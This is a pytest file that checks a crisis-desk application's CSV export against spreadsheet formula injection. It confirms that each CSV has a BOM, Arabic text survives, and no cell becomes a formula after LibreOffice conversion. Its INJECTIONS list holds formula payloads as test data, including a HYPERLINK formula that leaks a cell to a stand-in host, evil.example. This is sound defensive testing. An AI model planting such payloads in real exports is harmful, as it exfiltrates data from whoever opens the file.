"""The bundle's CSVs as a spreadsheet reads them (issue 14, point 4): a UTF-8 BOM, Arabic
intact, and no cell evaluated as a formula — checked by LibreOffice converting the CSVs to
XLSX, read back with openpyxl."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from crisisdesk.desk import Desk
from crisisdesk.review import manifest as mf
from crisisdesk.review.excel_csv import BOM, safe_cell
from tests.helpers.databases import PASSWORD
from tests.unit.review.scenario import Scenario

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "@SUM(1+1)",
    "-2+3",
    "+1",
    "\t=1+1",
    "@user1007",
]


def test_cells_are_neutralised() -> None:
    for text in INJECTIONS:
        assert str(safe_cell(text)).startswith("'")
    assert safe_cell("مرحبا =1") == "مرحبا =1"
    assert safe_cell(-5) == -5 and safe_cell(None) == ""


@pytest.fixture
def bundle(review_desk: Desk, scenario: Scenario, tmp_path: Path) -> Path:
    review_desk.sign_in("olfa", PASSWORD)
    for text in INJECTIONS:
        review_desk.inbox.add_hotline(scenario.incident_id, text=text, caller=text)
    review_desk.sign_in("layla", PASSWORD)
    out = tmp_path / "bundle"
    review_desk.review.export(scenario.incident_id, out)
    return out


def test_every_csv_has_a_bom(bundle: Path) -> None:
    names = [p for p in bundle.rglob("*.csv")]
    assert names
    for path in names:
        assert path.read_bytes().startswith(BOM.encode("utf-8")), path.name


def test_libreoffice_reads_arabic_and_evaluates_nothing(bundle: Path, tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    from openpyxl import load_workbook

    out = tmp_path / "xlsx"
    profile = tmp_path / "profile"
    # 44 = comma, 34 = double quote, 76 = UTF-8; the filter's defaults otherwise
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(bundle / mf.INTERACTIONS_CSV),
            str(bundle / mf.DECISIONS_CSV),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    sheet = load_workbook(out / "interactions.xlsx").active
    assert sheet is not None
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert header[0] == "id"  # the BOM is read as an encoding mark, not as text
    texts = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} became a formula: {cell.value}"
            if isinstance(cell.value, str):
                texts.append(cell.value)
    joined = "\n".join(texts)
    assert "هل صحيح أن السد انهار" in joined  # Arabic intact
    for text in INJECTIONS:
        assert text.strip() in joined  # shown as the text it is (after the apostrophe)
    decisions = load_workbook(out / "decisions.xlsx").active
    assert decisions is not None
    assert any(
        isinstance(c.value, str) and "تصدير" not in c.value and "الحادثة" in c.value
        for row in decisions.iter_rows(min_row=2)
        for c in row
    )
